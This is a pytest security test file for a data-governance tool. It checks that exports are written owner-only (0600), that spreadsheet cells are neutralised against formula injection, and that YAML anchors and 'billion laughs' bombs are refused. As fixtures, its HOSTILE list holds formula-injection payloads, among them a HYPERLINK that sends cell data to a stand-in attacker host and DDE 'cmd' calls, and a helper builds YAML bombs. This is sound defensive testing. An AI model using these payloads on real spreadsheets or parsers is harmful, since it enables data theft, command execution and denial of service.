"""Files people take away are the owner's only (0600), spreadsheet cells never run as formulas, and the
YAML inputs refuse anchors and aliases (the "billion laughs")."""

from __future__ import annotations

import io
import stat
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

from mamoru.backup import backup, restore_keystores
from mamoru.cli.main import app
from mamoru.connectors.interop import InteropFailed, from_fides
from mamoru.connectors.maps import parse_map
from mamoru.files import csv_text, safe_cell, write_private
from mamoru.ledger import entries as ledger
from mamoru.policy.errors import PolicyError
from mamoru.policy.load import pack_source, parse_policy
from mamoru.requests.package import _csv
from mamoru.scan.shares import load_shares
from mamoru.workspace import Workspace
from tests.test_ledger import entry_data

NOW = datetime(2026, 11, 25, 9, 0, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# --- 0600 -------------------------------------------------------------------------------------------


def test_a_backup_and_its_restored_key_store_are_written_for_the_owner_only(
    workspace: Workspace, tmp_path: Path
) -> None:
    out = tmp_path / "backup.zip"
    backup(workspace.db, out, keystores={"keys": workspace.settings.resolved_keystore_url})
    assert _mode(out) == 0o600
    target = tmp_path / "restored-keys.db"
    assert restore_keystores(out, {"keys": target}) == ["keys"]
    assert _mode(target) == 0o600


def test_the_backup_command_writes_0600_whatever_the_umask(workspace: Workspace, tmp_path: Path) -> None:
    import os

    out = tmp_path / "cli-backup.zip"
    old = os.umask(0o000)  # the most open umask: the file must still be the owner's only
    try:
        made = CliRunner().invoke(app, ["backup", str(out)])
    finally:
        os.umask(old)
    assert made.exit_code == 0, made.output
    assert _mode(out) == 0o600


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_ledger_export_is_written_0600_even_over_an_open_file(
    workspace: Workspace, tmp_path: Path, fmt: str
) -> None:
    with workspace.db.session() as session:
        ledger.create_entry(session, workspace.policy.policy, entry_data(), "staff:pm01")
    out = tmp_path / f"ledger.{fmt}"
    out.write_text("old")
    out.chmod(0o644)
    made = CliRunner().invoke(app, ["ledger", "export", "--format", fmt, "--out", str(out)])
    assert made.exit_code == 0, made.output
    assert _mode(out) == 0o600 and out.read_bytes() != b"old"


def test_the_cli_outputs_of_reports_and_renders_are_written_0600(
    workspace: Workspace, tmp_path: Path
) -> None:
    rendered = tmp_path / "notice.html"
    made = CliRunner().invoke(app, ["policy", "render", "--out", str(rendered)])
    assert made.exit_code == 0, made.output
    assert _mode(rendered) == 0o600
    exported = tmp_path / "checkpoints.json"
    made = CliRunner().invoke(app, ["audit", "checkpoint", "--export", str(exported)])
    assert made.exit_code == 0, made.output
    assert _mode(exported) == 0o600


def test_write_private_never_leaves_a_wider_file_or_a_partial_one(tmp_path: Path) -> None:
    target = tmp_path / "deep" / "report.txt"
    write_private(target, "氏名")
    assert _mode(target) == 0o600 and target.read_text(encoding="utf-8") == "氏名"
    assert [p.name for p in target.parent.iterdir()] == ["report.txt"]


# --- formulas ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_kept_as_text(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert safe_cell("山田 花子") == "山田 花子" and safe_cell(42) == 42 and safe_cell("") == ""


def test_the_ledger_export_neutralizes_a_hostile_entry_in_csv_and_xlsx(workspace: Workspace) -> None:
    from openpyxl import load_workbook

    hostile = HOSTILE[0]
    with workspace.db.session() as session:
        ledger.create_entry(
            session,
            workspace.policy.policy,
            entry_data(name=hostile, storage_location="+cmd|' /C calc'!A0", use_until="@SUM(1)"),
            "staff:pm01",
        )
        rows = ledger.list_entries(session)
        text = ledger.export_csv(rows, workspace.policy.policy, "en", NOW)
        xlsx = ledger.export_xlsx(rows, workspace.policy.policy, "en", NOW)
    import csv

    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    assert "'" + hostile in cells and "'+cmd|' /C calc'!A0" in cells and "'@SUM(1)" in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    sheet = load_workbook(io.BytesIO(xlsx)).active
    assert sheet is not None
    stored = {c.value: c.data_type for row in sheet.iter_rows() for c in row}
    assert stored[hostile] == "s" and stored["+cmd|' /C calc'!A0"] == "s"
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_the_request_package_csv_neutralizes_formulas() -> None:
    text = _csv([["field", "value"], ["name", HOSTILE[0]], ["phone", "+81-3-0000-0000"]]).decode("utf-8")
    assert text == csv_text([["field", "value"], ["name", HOSTILE[0]], ["phone", "+81-3-0000-0000"]])
    assert "\r\nname,\"'=HYPERLINK(" in text and "'+81-3-0000-0000" in text


# --- YAML: anchors and aliases ----------------------------------------------------------------------


def _laughs(depth: int) -> str:
    """The "billion laughs": each level nine aliases of the one below (9**9 values at depth 9)."""
    lines = ['lol0: &lol0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in range(1, depth + 1):
        lines.append(f"lol{level}: &lol{level} [{','.join([f'*lol{level - 1}'] * 9)}]")
    return "\n".join(lines) + "\n"


def _refused(error: Exception, file: str, line: int) -> None:
    message = str(error)
    assert message.startswith(f"{file}:{line}:"), message
    assert "anchor '&lol0' is refused" in message and "billion laughs" in message


@pytest.mark.parametrize("depth", [2, 9])
def test_a_policy_with_a_billion_laughs_is_refused_with_file_line_and_reason(depth: int) -> None:
    source = pack_source() + _laughs(depth)
    with pytest.raises(PolicyError) as refused:
        parse_policy(source, "policy.yaml")
    _refused(refused.value, "policy.yaml", len(pack_source().splitlines()) + 1)


@pytest.mark.parametrize("depth", [2, 9])
def test_a_dataset_map_with_a_billion_laughs_is_refused_with_file_line_and_reason(depth: int) -> None:
    source = "schema: mamoru.dataset/1\nname: crm\nurl_env: CRM_URL\n" + _laughs(depth)
    with pytest.raises(PolicyError) as refused:
        parse_map(source, "datasets/crm.yaml")
    _refused(refused.value, "datasets/crm.yaml", 4)


@pytest.mark.parametrize("depth", [2, 9])
def test_a_file_shares_list_with_a_billion_laughs_is_refused_with_file_line_and_reason(
    tmp_path: Path, depth: int
) -> None:
    file = tmp_path / "file-shares.yaml"
    file.write_text("schema: mamoru.file-shares/1\nshares: []\n" + _laughs(depth), encoding="utf-8")
    with pytest.raises(PolicyError) as refused:
        load_shares(file, tmp_path)
    _refused(refused.value, str(file), 3)


def test_a_fides_import_with_a_billion_laughs_is_refused(workspace: Workspace) -> None:
    with pytest.raises(InteropFailed, match="billion laughs"):
        from_fides(_laughs(9), url_env="CRM_URL", policy=workspace.policy.policy)


def test_an_alias_alone_is_refused_too(tmp_path: Path) -> None:
    source = "schema: mamoru.dataset/1\nname: &n crm\nurl_env: CRM_URL\nother: *n\n"
    with pytest.raises(PolicyError, match="anchor '&n' is refused"):
        parse_map(source, "datasets/crm.yaml")
